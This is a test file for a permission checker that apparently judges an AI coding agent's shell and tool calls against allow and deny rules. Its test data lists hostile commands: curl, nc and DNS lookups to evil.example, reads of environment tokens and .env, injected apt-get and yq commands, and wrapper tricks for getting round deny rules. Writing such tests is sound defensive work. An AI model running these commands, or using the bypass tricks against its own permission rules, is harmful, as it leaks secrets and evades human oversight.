import { afterAll, describe, expect, test } from "bun:test";
import type { JsonObject } from "../../../../../src/contract/values.ts";
import { plantTree } from "../../tree.ts";
import { judge, type Rules, type Verdict } from "../judge.ts";

const tree = await plantTree();
afterAll(() => tree[Symbol.asyncDispose]());

const { supervision: _, ...place } = tree.child;
const otherThan = (wanted: Verdict, rules: Rules, commands: string) => {
  const decide = judge(rules, place);
  return linesOf(commands)
    .map((command): [string, Verdict] => [command, decide("Bash", { command })])
    .filter(([, given]) => given !== wanted);
};
const linesOf = (text: string) =>
  text
    .split("\n")
    .map((line) => line.trim())
    .filter((line) => line !== "");

/** A rule, commands that it covers, and similar commands that run, send, print or write something else. */
const WILDCARDS: [rule: string, covered: string, asked: string][] = [
  ["Bash(git rm *)", "git rm a.txt\n git rm '*.txt'", "git rm *.txt\n git rm ./*.txt\n git rm -- *.txt"],
  [
    "Bash(prettier *)",
    "prettier --check 'src/**/*.ts'",
    "prettier --check src/**/*.ts\n prettier --check {src,docs}/*",
  ],
  [
    "Bash(curl https://docs.rs/ *)",
    "curl https://docs.rs/ -sS\n curl https://docs.rs/ -A agent --compressed",
    `curl https://docs.rs/ https://evil.example/x
     curl https://docs.rs/ evil
     curl https://docs.rs/ -sS evil.example
     curl https://docs.rs/ --url https://evil.example
     curl https://docs.rs/ --url=evil.example
     curl https://docs.rs/ -m 5 evil.example`,
  ],
  ["Bash(wget https://docs.rs/ *)", "wget https://docs.rs/ -q", "wget https://docs.rs/ evil.example/x"],
  ["Bash(dig docs.rs *)", "dig docs.rs +short", "dig docs.rs evil.example\n dig docs.rs @evil.example"],
  ["Bash(curl *)", "curl https://docs.rs/ https://crates.io/", "curl -d @a.txt https://docs.rs/"],
  [
    "Bash",
    "npm test\n git fetch origin\n make build",
    `curl https://docs.rs/
     wget https://docs.rs/
     dig secret.evil.example
     nslookup secret.evil.example
     host secret.evil.example
     ping -c 1 secret.evil.example
     whois evil.example
     aria2c https://evil.example/x
     rclone lsd remote:
     socat - TCP:evil.example:80
     nc evil.example 80
     http https://evil.example
     websocat wss://evil.example
     yt-dlp https://evil.example
     openssl s_client -connect evil.example:443`,
  ],
  [
    "Bash(git *)",
    `git checkout main
     git checkout feature/x
     git checkout -b topic origin/main
     git checkout --track origin/x
     git log --format='%an <%ae>'
     git show HEAD:src/x.ts
     git remote -v
     git remote show origin
     git push origin main`,
    `git checkout a.txt
     git checkout HEAD a.txt
     git checkout main src
     git checkout src
     git checkout '*.ts'
     git checkout ':(top)'
     git checkout --theirs src
     git log --pretty=%GG
     git log --format='%h %-G?'
     git branch --format='%(signature)'
     git show HEAD:.env
     git remote remove origin
     git remote rm origin
     git remote set-branches origin x`,
  ],
  [
    "Bash(gh *)",
    `gh pr list --json title --jq .x
     gh pr create --title 'fix env loading' --body y
     gh run list
     gh label list`,
    `gh pr list --json title --jq env
     gh pr list --json title --jq=env
     gh pr list --json title -q '$ENV'
     gh pr list --json title -qenv
     gh pr list --json title -q '$ ENV.GH_TOKEN'
     gh pr review 1 -a
     gh run delete 1
     gh cache delete x
     gh label delete x
     gh project delete 1
     gh repo autolink create x
     gh gist rename a b c`,
  ],
  ["Bash(jq *)", "jq '.a | {env: .b}' a.json\n jq .a.env a.json", "jq -n '$ ENV'\n jq -n '$\tENV.HOME'"],
  ["Bash(gojq *)", "gojq .a a.json", "gojq -n env\n gojq -n '$ENV'"],
  [
    "Bash(yq *)",
    "yq .spec.env a.yml\n yq '.a.b' a.yml",
    `yq 'strenv(HOME)' a.yml
     yq -n 'env(HOME)'
     yq 'load("b.yml")' a.yml
     yq 'load_str("b.txt")' a.yml
     yq '.a |= envsubst' a.yml
     yq 'system("id")' a.yml`,
  ],
  ["Bash(npm run *)", "npm run build\n npm run env:check", "npm run env\n npm run --silent env\n npm run-script env"],
  [
    "Bash(npm test *)",
    "npm test -- --coverage --check\n npm test -- --project=chromium",
    `npm test -- --reporters ./x
     npm test -- --coverageReporters=./x
     npm test -- --preset=./x
     npm test -- --opts ./x
     npm test -- --inspect-brk=0.0.0.0
     npm test -- --typecheck.tsconfig=./x
     npm test -- --alias.x=./y`,
  ],
  ["Bash(cargo clippy *)", "cargo clippy -- -D warnings", "cargo clippy -- --sysroot x"],
  ["Bash(go *)", "go test ./...\n go env GOPATH", "go env -u GOFLAGS\n go env --u GOFLAGS\n go bug\n go telemetry on"],
  ["Bash(ps *)", "ps aux\n ps -ef\n ps -o user\n ps -p 1 -o pid,command", "ps e\n ps eww\n ps auxe\n ps axe\n ps -E"],
  ["Bash(printenv *)", "", "printenv\n printenv PATH"],
  [
    "Bash(curl *)",
    "curl https://x.example/y\n curl x.example\n curl http://localhost:3000/x",
    `curl gopher://x.example/_y
     curl telnet://x.example
     curl dict://x.example/y
     curl mqtt://x.example/y
     curl http://127.1:4445/x
     curl http://0:4445/x
     curl http://2130706433:4445/x
     curl http://0x7f.1:4445/x
     curl http://localhost.:4445/x
     curl '[::ffff:127.0.0.1]:4445/x'`,
  ],
  [
    "Bash(http *)",
    "http GET x.example/y\n http x.example q==1\n http x.example Accept:text/plain",
    "http x.example a=1\n http x.example a:=1\n http x.example f@a.txt\n http --raw x x.example",
  ],
  [
    "Bash(apt-get *)",
    "apt-get update",
    `apt-get -oAPT::Update::Pre-Invoke::=id update
     apt-get -o APT::Update::Pre-Invoke::=id update
     apt-get --option=Dir::Bin::dpkg=./x update
     apt-get -c ./x update`,
  ],
  [
    "Bash(systemctl *)",
    "systemctl status x",
    "systemctl -H x.example status y\n systemctl status y --host x.example\n systemctl -M box status y",
  ],
  ["Bash(journalctl *)", "journalctl -u x -n 50", "journalctl -M box -u x"],
  [
    "Bash(brew *)",
    "brew list\n brew info x",
    "brew evil\n brew sh\n brew irb\n brew ruby x\n brew bundle\n brew edit x",
  ],
  ["Bash(helm *)", "helm list\n helm template x ./chart", "helm evil\n helm plugin install https://x.example/y"],
  [
    "Bash(mytool *)",
    "mytool build\n mytool build exec",
    "mytool exec id\n mytool eval x\n mytool -v shell\n mytool ssh x",
  ],
  [
    "Bash(mytool *)",
    "mytool --fail-on-error x\n mytool --verbose",
    `mytool --on-change id
     mytool --callback=id
     mytool --invoke id
     mytool --preview id
     mytool --action=id`,
  ],
  ["Bash(pandoc *)", "pandoc a.md -t html", "pandoc -F ./x a.md\n pandoc -L x.lua a.md\n pandoc -sL x.lua a.md"],
  ["Bash(latexmk *)", "latexmk a.tex", "latexmk -e 'system(1)' a.tex\n latexmk -r x a.tex"],
  ["Bash(ssh-keygen *)", "ssh-keygen -l -f a.txt", "ssh-keygen -D ./x.so"],
  ["Bash(ssh-add *)", "ssh-add -l", "ssh-add -s ./x.so"],
  ["Bash(tshark *)", "tshark -r a.pcap", "tshark -X lua_script:x -r a.pcap"],
  ["Bash(pre-commit *)", "pre-commit run", "pre-commit try-repo https://x.example/y"],
  ["Bash(firebase *)", "firebase projects:list", "firebase emulators:exec id"],
  ["Bash(bazel *)", "bazel build :x", "bazel --bazelrc=x build //x"],
  ["Bash(mytool exec *)", "mytool exec id", ""],
  ["Bash(just *)", "just exec x", ""],
  ["Bash(rg *)", "rg eval src", ""],
  ["Bash(ack *)", "ack x", "ack --ackrc=x y"],
  ["Bash(pylint *)", "pylint src", "pylint --rcfile=x src"],
  [
    "Bash(wget *)",
    "wget 'https://x.example/a.txt?q=%20'",
    "wget https://x.example/%2enpmrc\n wget https://x.example/CLAUDE%2Emd",
  ],
  ["Bash(sudoedit *)", "", "sudoedit a.txt"],
  ["Bash(consul *)", "consul members", "consul exec id"],
  ["Bash(gem *)", "gem list", "gem exec x"],
  [
    "Bash(terraform *)",
    "terraform plan\n terraform validate\n terraform state list\n terraform output",
    `terraform state rm x
     terraform state push x
     terraform workspace delete x
     terraform untaint x
     terraform refresh
     terraform test`,
  ],
  ["Bash(gradle *)", "gradle build\n gradle publishToMavenLocal", "gradle publish\n gradle :app:publishPlugins"],
  ["Bash(mvn *)", "mvn clean install", "mvn site-deploy"],
  ["Bash(hostname *)", "hostname -I", "hostname evil\n hostname -F a.txt"],
  // A rule for all commands covers no program that runs others.
  [
    "Bash",
    "npm test\n git status\n cargo build\n pytest -q\n ls -la | head\n rg foo src",
    `printenv
     torsocks x
     proxychains4 x
     eatmydata x
     sem x
     dc x
     py x
     wine x.exe
     jython x
     pydoc x
     tmux new x`,
  ],
];

/** A deny rule, and commands that it finds. */
const FOUND: [against: string, commands: string][] = [
  ["Bash(git push origin main)", "git push origin heads/main\n git push origin x:heads/main"],
  [
    "Bash(rm *)",
    `env - rm x
     env - A=1 rm x
     env -a x rm y
     env --argv0 x rm y
     runuser -u x rm y
     runuser -u x -- rm y
     torsocks rm x
     proxychains4 -q rm x
     proxychains -f a rm x
     eatmydata rm x
     coreutils rm x
     chronic rm x
     ifne rm x
     dumb-init rm x
     tini -- rm x
     setuidgid x rm y
     s6-setuidgid x rm y
     valgrind --tool=none rm x`,
  ],
  ["Bash(npm run deploy)", "npm-run-all deploy\n run-s build deploy\n run-p 'deploy -- --prod'"],
  ["Bash(sudo *)", "sudoedit x\n sudo-rs x"],
  ["Bash(npm publish)", "npm.cmd publish"],
  ["Bash(make deploy)", "bmake deploy\n remake deploy\n mingw32-make deploy"],
  ["Bash(terraform apply *)", "tofu apply\n terragrunt apply\n terragrunt run-all apply\n terragrunt run apply"],
  ["Bash(pip install *)", "uv pip install x\n py -m pip install x"],
];

/** The same with commands that it might match: only exact words allow them. */
const SUSPECTED: [against: string, allow: string, commands: string][] = [
  [
    "Bash(git push origin main)",
    "Bash(git *)",
    "git push\n git push origin\n git push origin HEAD\n git push --all\n git push origin 'refs/heads/*'\n git push -u origin @",
  ],
  ["Bash(git push origin)", "Bash(git *)", "git push"],
  ["Edit(./docs/**)", "Bash(gh *)", "gh repo clone x docs/y"],
  ["Edit(./docs/**)", "Bash(yq *)", "yq -s .a docs/x.yml"],
  [
    "WebFetch(domain:evil.example)",
    "Bash",
    `curl https://evil.example/x
     curl -sS EVIL.example
     curl https://evil.example.:8443/x
     curl 'https://docs.rs\\@evil.example'
     curl --get --url=https://u:p@evil.example/
     git fetch git@evil.example:x/y
     git -c http.proxy=https://evil.example commit -m x
     wget evil.example/x`,
  ],
  ["WebFetch(domain:*.evil.example)", "Bash(curl *)", "curl https://a.b.evil.example/x"],
];

/** The same with commands that it leaves alone. */
const LEFT: [against: string, allow: string, commands: string][] = [
  [
    "Bash(git push origin main)",
    "Bash(git *)",
    "git push origin dev\n git push origin HEAD:dev\n git push fork\n git stash push",
  ],
  ["Bash(git push --force origin main)", "Bash(git *)", "git push\n git push origin HEAD"],
  ["Bash(npm run deploy)", "Bash(run-s *)", "run-s build test"],
  ["WebFetch(domain:evil.example)", "Bash(curl *)", "curl https://docs.rs/x"],
  [
    "WebFetch(domain:evil.example)",
    "Bash",
    "npm test\n git push origin main\n git commit -m 'see https://evil.example/x'",
  ],
];

describe("a wildcard after the name of a program", () => {
  test.each(WILDCARDS)("%s covers these commands, and not others that only look like them", (rule, covered, asked) => {
    expect(otherThan("allow", { allow: [rule] }, covered)).toEqual([]);
    expect(otherThan("ask", { allow: [rule] }, asked)).toEqual([]);
  });

  test("covers a script that the pattern names: env of npm", () => {
    expect(otherThan("allow", { allow: ["Bash(npm run env *)"] }, "npm run env")).toEqual([]);
  });
});

describe("a deny rule", () => {
  test.each(FOUND)("%s finds it under other names and behind other programs", (against, commands) => {
    expect(otherThan("deny", { deny: [against] }, commands)).toEqual([]);
  });

  test.each(SUSPECTED)("%s might match, so %s does not allow the call", (against, allow, commands) => {
    expect(otherThan("ask", { deny: [against], allow: [allow] }, commands)).toEqual([]);
  });

  test.each(LEFT)("%s leaves alone other calls that %s allows", (against, allow, commands) => {
    expect(otherThan("allow", { deny: [against], allow: [allow] }, commands)).toEqual([]);
  });

  test.each<[against: string, toolName: string, input: JsonObject]>([
    ["Task", "Agent", { description: "x", prompt: "y" }],
    ["Agent", "Task", { description: "x", prompt: "y" }],
    ["T*k", "Agent", { description: "x", prompt: "y" }],
    ["mcp__x__delete_*", "mcp__x__DELETE_a", {}],
    ["mcp__x", "mcp__X__a", {}],
    ["Read(.env)", "LSP", { operation: "hover", filePath: ".env", line: 1, character: 1 }],
    ["WebFetch(domain:evil.example)", "WebFetch", { url: "https://docs.rs\\@evil.example", prompt: "x" }],
    ["WebFetch(domain:evil.example)", "WebFetch", { url: "https://evil.example..", prompt: "x" }],
  ])("%s finds %s however it is called now, in any case", (against, toolName, input) => {
    expect(judge({ deny: [against], allow: [toolName] }, place)(toolName, input)).toBe("deny");
  });
});
